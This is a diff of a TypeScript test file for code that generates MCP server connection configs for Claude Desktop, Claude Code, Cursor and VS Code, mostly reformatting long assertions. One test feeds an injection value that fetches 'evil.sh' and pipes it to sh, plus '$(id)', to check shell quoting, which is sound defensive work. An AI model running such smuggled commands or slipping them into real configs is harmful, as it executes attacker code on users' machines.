@@ -7,9 +7,17 @@ describe("connect configurations", () => {
   it("builds Claude Desktop, Claude Code, Cursor and VS Code configs from the npx command and keys", () => {
     const c = connectConfigs("github", "npx -y @modelcontextprotocol/server-github", keys)!;
     expect(JSON.parse(c.claudeDesktop)).toEqual({
-      mcpServers: { github: { command: "npx", args: ["-y", "@modelcontextprotocol/server-github"], env: { GITHUB_PERSONAL_ACCESS_TOKEN: "<your GitHub Personal Access Token>" } } },
+      mcpServers: {
+        github: {
+          command: "npx",
+          args: ["-y", "@modelcontextprotocol/server-github"],
+          env: { GITHUB_PERSONAL_ACCESS_TOKEN: "<your GitHub Personal Access Token>" },
+        },
+      },
     });
-    expect(c.claudeCode).toBe("claude mcp add github -e 'GITHUB_PERSONAL_ACCESS_TOKEN=<your GitHub Personal Access Token>' -- npx -y @modelcontextprotocol/server-github");
+    expect(c.claudeCode).toBe(
+      "claude mcp add github -e 'GITHUB_PERSONAL_ACCESS_TOKEN=<your GitHub Personal Access Token>' -- npx -y @modelcontextprotocol/server-github",
+    );
     expect(JSON.parse(c.cursor)).toEqual(JSON.parse(c.claudeDesktop));
     const vs = JSON.parse(c.vscode);
     expect(vs.inputs[0]).toMatchObject({ type: "promptString", id: "github-personal-access-token", password: true });
@@ -34,10 +42,19 @@ describe("hostedConfigs", () => {
     const c = hostedConfigs("alice/weather", url);
     expect(c.claudeCode).toBe(`claude mcp add --transport http alice-weather ${url} --header "Authorization: Bearer <your API key>"`);
     expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { "alice-weather": { url, headers: { Authorization: "Bearer <your API key>" } } } });
-    const vs = JSON.parse(c.vscode) as { servers: Record<string, { type: string; url: string; headers: Record<string, string> }>; inputs: { id: string; password: boolean }[] };
+    const vs = JSON.parse(c.vscode) as {
+      servers: Record<string, { type: string; url: string; headers: Record<string, string> }>;
+      inputs: { id: string; password: boolean }[];
+    };
     expect(vs.servers["alice-weather"]).toEqual({ type: "http", url, headers: { Authorization: "Bearer ${input:switchboard-api-key}" } });
     expect(vs.inputs[0]).toMatchObject({ id: "switchboard-api-key", password: true });
-    expect(JSON.parse(c.claudeDesktop).mcpServers["alice-weather"].args).toEqual(["-y", "mcp-remote", url, "--header", "Authorization:Bearer <your API key>"]);
+    expect(JSON.parse(c.claudeDesktop).mcpServers["alice-weather"].args).toEqual([
+      "-y",
+      "mcp-remote",
+      url,
+      "--header",
+      "Authorization:Bearer <your API key>",
+    ]);
   });
   it("names the server after its id", () => {
     expect(clientName("GitHub")).toBe("github");
@@ -55,7 +72,9 @@ describe("a server its publisher hosts, or run through uvx", () => {
 
   it("quotes a URL or argument a shell would read as commands, so a pasted snippet runs nothing else", () => {
     const hostile = "https://x.example/m;curl${IFS}evil.sh|sh'";
-    expect(remoteConfigs("x", hostile, "streamable-http").claudeCode).toBe("claude mcp add --transport http x 'https://x.example/m;curl${IFS}evil.sh|sh'\\'''");
+    expect(remoteConfigs("x", hostile, "streamable-http").claudeCode).toBe(
+      "claude mcp add --transport http x 'https://x.example/m;curl${IFS}evil.sh|sh'\\'''",
+    );
     expect(shellWord("plain-arg_1.0")).toBe("plain-arg_1.0");
     expect(shellWord("$(id)")).toBe("'$(id)'");
     for (const w of ["a?b", "~", "#c", "=x", "*", "", "a b", "a\nb"]) expect(shellWord(w)).toBe(`'${w}'`);
@@ -69,6 +88,8 @@ describe("a server its publisher hosts, or run through uvx", () => {
   it("runs a uvx command through uvx (no -y)", () => {
     const c = connectConfigs("time", "uvx mcp-server-time==1.0 --local-timezone=UTC", null)!;
     expect(c.claudeCode).toBe("claude mcp add time -- uvx mcp-server-time==1.0 --local-timezone=UTC");
-    expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { time: { command: "uvx", args: ["mcp-server-time==1.0", "--local-timezone=UTC"] } } });
+    expect(JSON.parse(c.cursor)).toEqual({
+      mcpServers: { time: { command: "uvx", args: ["mcp-server-time==1.0", "--local-timezone=UTC"] } },
+    });
   });
 });
